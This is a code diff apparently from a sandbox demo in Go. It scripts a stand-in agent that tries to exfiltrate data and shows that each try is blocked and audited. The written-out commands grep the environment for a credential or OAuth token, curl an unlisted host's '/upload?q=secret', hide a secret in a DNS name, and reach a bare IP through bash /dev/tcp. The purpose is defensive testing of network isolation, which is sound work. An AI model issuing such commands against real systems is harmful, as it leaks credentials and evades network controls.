@@ -39,32 +39,38 @@ const (
 	bareAddress  = "93.184.216.34"
 )
 
-// acts are played in order. The commands need nothing but bash, which every bottle has; bash
-// opens TCP connections by itself (/dev/tcp).
-var acts = []act{
-	{
+// play is the acts in order. Where the host has no curl, bash asks: it opens TCP connections by
+// itself (/dev/tcp).
+func play(curl bool) []act {
+	upload := "curl -sS 'http://" + unlistedHost + "/upload?q=secret'"
+	bare := "curl -sS --noproxy '*' http://" + bareAddress + "/"
+	if !curl {
+		upload = ask("127.0.0.1/3128", "GET http://"+unlistedHost+"/upload?q=secret HTTP/1.1", unlistedHost)
+		bare = ask(bareAddress+"/80", "GET / HTTP/1.1", bareAddress)
+	}
+	return []act{{
 		title:   "Which credential does the agent hold?",
 		command: "env | grep -E '^(" + credentialVar + "|CLAUDE_CODE_OAUTH_TOKEN)='",
 		proof:   credentialVar + "=",
 	},
-	{
-		title:   "A host nobody listed, through the proxy",
-		command: ask("127.0.0.1/3128", "GET http://"+unlistedHost+"/upload?q=secret HTTP/1.1", unlistedHost),
-		proof:   "denied",
-		event:   func(e audit.Event) bool { return e.Host == unlistedHost },
-	},
-	{
-		title:   "A secret in a DNS name",
-		command: "getent hosts " + secretName + " || echo \"exit $?: no such name\"",
-		proof:   "no such name",
-		event:   func(e audit.Event) bool { return e.Kind == audit.KindDNS && e.Host == secretName },
-	},
-	{
-		title:   "A bare address, past every proxy",
-		command: ask(bareAddress+"/80", "GET / HTTP/1.1", bareAddress),
-		proof:   "denied",
-		event:   func(e audit.Event) bool { return e.Addr == bareAddress || e.Host == bareAddress },
-	},
+		{
+			title:   "A host nobody listed, through the proxy",
+			command: upload,
+			proof:   "denied",
+			event:   func(e audit.Event) bool { return e.Host == unlistedHost },
+		},
+		{
+			title:   "A secret in a DNS name",
+			command: "getent hosts " + secretName + " || echo \"exit $?: no such name\"",
+			proof:   "no such name",
+			event:   func(e audit.Event) bool { return e.Kind == audit.KindDNS && e.Host == secretName },
+		},
+		{
+			title:   "A bare address, past every proxy",
+			command: bare,
+			proof:   "denied",
+			event:   func(e audit.Event) bool { return e.Addr == bareAddress || e.Host == bareAddress },
+		}}
 }
 
 // ask is a shell command that sends one HTTP request to bash's address and prints the answer.
@@ -83,11 +89,11 @@ func (s *show) script() standin.Script {
 	return func(c standin.Conversation) standin.Turn {
 		s.stage.mu.Lock()
 		defer s.stage.mu.Unlock()
-		if c.Step > 0 && c.Step <= len(acts) && len(c.Results) > 0 {
+		if c.Step > 0 && c.Step <= len(s.acts) && len(c.Results) > 0 {
 			s.stage.outputs[c.Step-1] = c.Results[0]
 		}
-		if c.Step < len(acts) {
-			return standin.Turn{Text: acts[c.Step].title, Commands: []string{acts[c.Step].command}}
+		if c.Step < len(s.acts) {
+			return standin.Turn{Text: s.acts[c.Step].title, Commands: []string{s.acts[c.Step].command}}
 		}
 		return standin.Turn{Text: closing}
 	}
@@ -120,7 +126,7 @@ func (s *show) tell(h *launch.Handle, p plan.Plan) error {
 		return err
 	}
 	var failed []string
-	for i, a := range acts {
+	for i, a := range s.acts {
 		s.title(fmt.Sprintf("%d. %s", i+1, a.title))
 		s.say(s.Paint("dim", "agent   $ ") + a.command)
 		output, ok := s.stage.outputs[i]
@@ -141,7 +147,7 @@ func (s *show) tell(h *launch.Handle, p plan.Plan) error {
 	if err := s.tellCredential(p); err != nil {
 		failed = append(failed, err.Error())
 	}
-	s.title(fmt.Sprintf("%d. The model's reply, through interception", len(acts)+2))
+	s.title(fmt.Sprintf("%d. The model's reply, through interception", len(s.acts)+2))
 	s.indent(inert.Lines(s.said, 2000))
 	if want := s.reply(); !strings.Contains(s.said, want) {
 		failed = append(failed, "the model's reply did not arrive")
@@ -162,7 +168,7 @@ func (s *show) reply() string {
 
 // tellCredential shows that the stand-in saw the real credential and the bottle did not.
 func (s *show) tellCredential(p plan.Plan) error {
-	s.title(fmt.Sprintf("%d. The credential the model's API saw", len(acts)+1))
+	s.title(fmt.Sprintf("%d. The credential the model's API saw", len(s.acts)+1))
 	real, fake := 0, 0
 	for _, r := range s.api.Seen() {
 		switch {
@@ -172,7 +178,7 @@ func (s *show) tellCredential(p plan.Plan) error {
 			fake++
 		}
 	}
-	s.say(fmt.Sprintf("%d requests arrived with the real key, %d with anything else.", real, fake))
+	s.say(fmt.Sprintf("Requests with the real key: %d. With anything else: %d.", real, fake))
 	for _, route := range p.Routes {
 		if route.Auth != nil {
 			s.say("In the bottle it is " + s.Paint("code", route.Auth.Placeholder) + ", worth nothing anywhere else.")
